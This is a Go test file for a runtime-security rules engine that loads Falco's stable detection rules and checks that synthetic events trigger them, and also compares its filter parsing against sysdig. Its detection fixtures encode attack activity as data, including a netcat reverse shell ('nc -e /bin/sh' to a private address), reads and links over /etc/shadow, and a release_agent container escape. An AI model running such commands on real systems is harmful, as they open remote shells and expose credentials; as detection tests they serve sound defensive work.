package rule

import (
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/plumbline-io/plumbline/pkg/event"
)

// readStable reads the stable rules of Falco's project, which are not part of this one.
func readStable() (File, error) {
	path := os.Getenv("PLUMBLINE_FALCO_RULES")
	if path == "" {
		path = "../../../shared/data/falco-rules/falco_rules.yaml"
	}
	data, err := os.ReadFile(path)
	return File{Name: "falco_rules.yaml", Data: data}, err
}

func stable(t testing.TB) File {
	t.Helper()
	f, err := readStable()
	if errors.Is(err, fs.ErrNotExist) {
		t.Skipf("Falco's stable rules are not at hand: name the file in PLUMBLINE_FALCO_RULES: %v", err)
	}
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// Falco's own rules load unchanged, and what cannot match says which field it lacks.
func TestStableRules(t *testing.T) {
	set, problems := Load(stable(t))
	dead := map[string]bool{}
	var lacking []string
	outcomes := 0 // macros open_file_failed and outbound
	for _, p := range problems {
		switch {
		case !p.Warning:
			t.Error(p)
		case strings.Contains(p.Message, "holds for no event that is observed"):
			dead[p.Rule] = true
		case p.ID == unknownOutcome:
			outcomes++
		case p.ID == notSupplied || p.ID == unobservedType:
			lacking = append(lacking, p.Message)
		case !strings.HasSuffix(p.Message, " is not used"):
			t.Error(p)
		}
	}
	if outcomes != 3 {
		t.Errorf("%d checks on how a call ends are remarked on", outcomes)
	}
	if n := len(set.Rules()); n != 25 || len(set.Macros()) != 87 || len(set.Lists()) != 49 {
		t.Errorf("%d rules, %d macros, %d lists", n, len(set.Macros()), len(set.Lists()))
	}
	if lacking != nil {
		t.Errorf("%q", lacking)
	}
	fields := map[string]FieldInfo{}
	for _, f := range Fields() {
		fields[f.Name] = f
	}
	for _, r := range set.Rules() {
		lacks := slices.ContainsFunc(r.Checks(), func(c CheckInfo) bool { return !c.Supplied })
		asked := r.classes != 0
		if dead[r.Name] == asked || !asked && !lacks {
			t.Errorf("%s: asked %t, lacks fields %t, reported %t", r.Name, asked, lacks, dead[r.Name])
		}
		for _, c := range r.Checks() {
			if f, ok := fields[c.Field]; !ok || f.Supplied != c.Supplied {
				t.Errorf("%s: %+v", r.Name, c)
			}
		}
	}
	if len(dead) != 0 {
		t.Errorf("%d of 25 rules can never match: %v", len(dead), dead)
	}
}

// A few of them at work.
func TestStableRulesMatch(t *testing.T) {
	set, _ := Load(stable(t))
	shadow := access(event.Key{Op: event.OpRead, Path: "/etc/shadow"})
	shadow.Event.Access.Comm = "evil"
	netcat := shell()
	netcat.Workload.ContainerID, netcat.Event.Exec.Comm, netcat.Event.Exec.Args = "c1", "nc", "nc -e /bin/sh 10.0.0.1 4444"
	memfd := shell()
	memfd.Event.Exec.Path, memfd.Event.Exec.Comm, memfd.Event.Exec.Detached = "/memfd:x", "x", true
	ssh := onAddress(event.OpConnect, event.ProtocolTCP, "203.0.113.1", 443)
	ssh.Event.Process.Args = "/usr/bin/ssh host"
	inside := onAddress(event.OpConnect, event.ProtocolTCP, "10.0.0.1", 443)
	inside.Event.Process.Args = "/usr/bin/ssh host"
	packet := access(event.Key{Op: event.OpSocket, Value: 17 << 16})
	packet.Workload.ContainerID = "c1"
	inContainer := func() *Env {
		e := shell()
		e.Workload.ContainerID, e.Event.Process.Lineage = "c1", []string{"/usr/bin/containerd-shim-runc-v2"}
		e.Event.Process.Parent = e.Event.Process.Lineage[0]
		return e
	}
	terminal, dropped, debugger := inContainer(), inContainer(), inContainer()
	terminal.Event.Exec.Membership = event.Membership{VPID: 9, TTY: 0x8800}
	dropped.Event.Exec.Path, dropped.Event.Exec.Comm, dropped.Event.Exec.Upper = "/tmp/x", "x", true
	debugger.Event.Exec.Comm, debugger.Facts = "debugfs", contained{is: Container{Confined: true, Privileged: true}}
	module := access(event.Key{Op: event.OpModule})
	module.Workload.ContainerID, module.Event.Access.Capabilities = "c1", event.Capabilities{Effective: 1 << 16, Known: true}
	redirected, kept := made(), made()
	redirected.Workload.ContainerID, kept.Workload.ContainerID, kept.Event.Access.Descriptor = "c1", "c1", 3
	escape := detailedAccess(event.OpWrite, "/x/release_agent", 1, "release_agent")
	escape.Workload.ContainerID, escape.Event.Access.Capabilities = "c1", event.Capabilities{Effective: 1<<21 | 2, Known: true}
	for name, tc := range map[string]struct {
		env  *Env
		want string
	}{
		"terminal":       {terminal, "Terminal shell in container"},
		"dropped":        {dropped, "Drop and execute new binary in container"},
		"debugger":       {debugger, "Debugfs Launched in Privileged Container"},
		"redirected":     {redirected, "Redirect STDOUT/STDIN to Network Connection in Container"},
		"not redirected": {kept, ""},
		"module":         {module, "Linux Kernel Module Injection Detected"},
		"release agent":  {escape, "Detect release_agent File Container Escapes"},
		"traversal":      {detailedAccess(event.OpRead, "/etc/shadow", 0, "/srv/../../etc/shadow"), "Directory traversal monitored file read"},
		"link to shadow": {detailedAccess(event.OpCreate, "/tmp/x", 0o120777, "/etc/shadow"), "Create Symlink Over Sensitive Files"},
		"cleared log":    {detailedAccess(event.OpWrite, "/var/log/syslog", 0o1001, "/var/log/syslog"), "Clear Log Activities"},
		"shell of nginx": {shell(), "Run shell untrusted"},
		"shadow":         {shadow, "Read sensitive file untrusted"},
		"shadow by cat":  {access(event.Key{Op: event.OpRead, Path: "/etc/hosts"}), ""},
		"netcat":         {netcat, "Netcat Remote Code Execution in Container"},
		"memfd":          {memfd, "Fileless execution via memfd_create"},
		"ssh":            {ssh, "Disallowed SSH Connection Non Standard Port"},
		"ssh inside":     {inside, ""},
		"packet socket":  {packet, "Packet socket created in container"},
		"ptrace":         {access(event.Key{Op: event.OpPtrace, Value: event.PtraceAttach}), "PTRACE attached to process"},
		"hard link":      {access(event.Key{Op: event.OpLink, Path: "/etc/shadow"}), "Create Hardlink Over Sensitive Files"},
	} {
		t.Run(name, func(t *testing.T) {
			var names []string
			for _, r := range set.Match(tc.env, All, nil) {
				names = append(names, r.Name)
				if out := string(r.AppendOutput(nil, tc.env)); strings.Contains(out, "%") {
					t.Errorf("%s: output %s", r.Name, out)
				}
			}
			if got := strings.Join(names, ", "); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

// filters makes random filters of the part of the language that sysdig 0.29 has too. That one wants
// parentheses where and meets or, and has no other way to write equality than one sign.
type filters struct{ *rand.Rand }

func (g filters) pick(from ...string) string { return from[g.IntN(len(from))] }

func (g filters) expression(depth int) string {
	if depth == 0 || g.IntN(3) == 0 {
		return g.pick("", "", "not ") + g.check()
	}
	operator := g.pick(" and ", " or ", " and ", "\n  or ")
	parts := make([]string, 2+g.IntN(2))
	for i := range parts {
		if parts[i] = g.expression(depth - 1); g.IntN(2) == 0 || strings.ContainsAny(parts[i], " ") {
			parts[i] = g.pick("", "not ") + "(" + parts[i] + g.pick("", " ") + ")"
		}
	}
	return strings.Join(parts, operator)
}

func (g filters) check() string {
	text := func() string {
		return g.pick("a", "sh", `"a b"`, "'x'", "/usr/bin/x", `" -e "`, "a.b", "x-y", "*", "[a]", "<NA>")
	}
	list := func(of func() string) string {
		items := make([]string, 1+g.IntN(3))
		for i := range items {
			items[i] = of()
		}
		return "(" + strings.Join(items, g.pick(",", ", ", " , ")) + ")"
	}
	num := func() string { return g.pick("0", "1", "33", "-1", "65535") }
	equal := g.pick("=", " = ", " != ", "!=", "= ")
	switch g.IntN(9) {
	case 0:
		return g.pick("proc.pid", "user.uid", "evt.rawres", "fd.num", "proc.ppid") + g.pick(equal, "<", " <= ", ">", " >=") + num()
	case 1:
		return g.pick("proc.pid", "user.uid", "evt.rawres") + " in " + list(num)
	case 2:
		return g.pick("fd.sport", "fd.port", "fd.rport") + g.pick(" = 22", "!=443", " in (80, 443)", " < 1024")
	case 3:
		return g.pick("evt.is_open_read", "evt.is_open_write", "fd.connected") + equal + g.pick("true", "false")
	case 4:
		return g.pick("fd.ip", "fd.sip", "fd.rip") + equal + g.pick("10.0.0.1", `"127.0.0.1"`, "::1")
	case 5:
		return g.pick("fd.net", "fd.snet") + g.pick("=10.0.0.0/8", ` in ("172.16.0.0/12", 10.0.0.0/8)`)
	case 6:
		return "evt.type" + g.pick("=execve", " in (open, openat)", " in (execve)", " != connect")
	case 7:
		return g.text() + " " + g.pick("in", "pmatch") + " " + list(text)
	}
	operator := g.pick(equal, " contains ", " icontains ", " startswith ", " endswith ", " glob ", " exists")
	if operator == " exists" {
		return g.text() + operator
	}
	return g.text() + operator + text()
}

func (g filters) text() string {
	return g.pick("proc.name", "proc.cmdline", "proc.pname", "fd.name", "fd.directory", "container.id", "proc.aname", "proc.aname[2]",
		"proc.exepath", "user.name", "fd.l4proto", "proc.cwd", "k8s.ns.name", "evt.arg.path")
}

// broken makes a filter wrong, or not, in ways that both sides see alike.
func (g filters) broken(s string) string {
	wrong := g.pick("proc.nam = a", "proc.name is a", "proc.pid = x", "fd.ip = x", "fd.connected = maybe", `proc.name = "a`,
		"proc.name in a", "proc.name in (a b)", "proc.name in (a", "user.uid in (1, x)", "fd.net = 10.0.0.0/33", "proc.name", "",
		"proc.aname[x] = a", "(proc.name = a", "proc.name = a)", "proc.name = a and and proc.pid = 1", "proc.name = (a)", "macro", "()",
		"proc.name = a b", "proc.pid pmatch (1)", "proc.name[1] = a", "a.b = 1", "not", "proc.name ! a")
	switch g.IntN(3) {
	case 0:
		return "(" + s + ") and " + wrong
	case 1:
		return s + ")"
	}
	return g.pick("(", "not (") + s
}

// Another implementation of the filter language accepts and rejects the same filters.
func TestSysdigAgrees(t *testing.T) {
	sysdig, err := exec.LookPath("sysdig")
	if err != nil {
		t.Skip("sysdig is not installed: nothing to compare with")
	}
	const filterCount = 200
	g := filters{rand.New(rand.NewPCG(1, 2))}
	accepted := 0
	for i := range filterCount {
		filter := g.expression(3)
		if i%2 == 1 {
			filter = g.broken(filter)
		}
		theirs := sysdigAccepts(t, sysdig, filter)
		_, m := compiledCondition(filter)
		if ours := m == nil; ours != theirs {
			t.Errorf("sysdig accepts: %t; here: %+v\n%s", theirs, m, filter)
		}
		if theirs {
			accepted++
		}
	}
	if accepted < filterCount/3 || accepted > filterCount*2/3 {
		t.Errorf("%d of %d filters are right: that compares little", accepted, filterCount)
	}
}

// sysdigAccepts lets sysdig read an empty capture: it complains of that only if the filter is right.
func sysdigAccepts(t *testing.T, sysdig, filter string) bool {
	t.Helper()
	out, _ := exec.Command(sysdig, "-r", "/dev/null", filter).CombinedOutput() // it never succeeds
	switch text := string(out); {
	case strings.Contains(text, "Could not initialize reader"):
		return true
	case strings.Contains(text, "filter error") || strings.Contains(text, "syntax error in filter"):
		return false
	default:
		t.Fatal(fmt.Errorf("sysdig says: %s", text))
		return false
	}
}
